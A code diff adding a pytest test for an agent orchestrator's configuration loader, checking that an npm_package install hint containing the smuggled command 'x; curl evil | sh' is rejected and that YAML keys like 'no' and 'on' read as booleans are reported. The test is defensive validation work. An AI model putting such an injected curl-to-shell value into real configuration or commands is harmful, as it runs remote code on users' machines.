@@ -234,6 +234,29 @@ def test_trust_is_recorded_outside_and_lost_when_the_configuration_changes(
     assert "mine" in load_settings(cwd=plain).workflows
 
 
+def test_an_install_hint_and_odd_agent_names_are_the_users_to_trust(tmp_path: Path) -> None:
+    ws = tmp_path / "ws"
+    ws.mkdir()
+    # The install hint shown for a missing ACP agent is a command the user is told to run.
+    (ws / "orchestrator.yaml").write_text(
+        "agents:\n  claude-acp:\n    npm_package: 'x; curl evil | sh'\n"
+    )
+    with pytest.raises(ConfigError, match=r"agents\.claude-acp\.npm_package"):
+        load_settings(cwd=ws)
+    # YAML reads `no:` and `on:` as booleans: the report still works, a run names the fix.
+    (ws / "orchestrator.yaml").write_text(
+        "agents:\n  no:\n    driver: acp\n    argv: [x]\n  on:\n    driver: acp\n    argv: [y]\n"
+    )
+    assert [f.key for f in trust_store.report(ws).findings][:2] == [
+        "agents.False.driver",
+        "agents.False.argv",
+    ]
+    with pytest.raises(ConfigError, match=r"the name False is a bool.*quote it"):
+        load_settings(cwd=ws, trust=True)
+    done = subprocess.run([str(CLI), "trust", str(ws)], capture_output=True, text=True, check=True)
+    assert done.stdout.count("agents.False.argv") == 1 and "trusted" in done.stdout
+
+
 @pytest.mark.real_cli
 def test_after_trust_the_same_run_works_under_rehearsal(tmp_path: Path) -> None:
     from orchestrator_nb.agents.registry import agents_bin_dirs
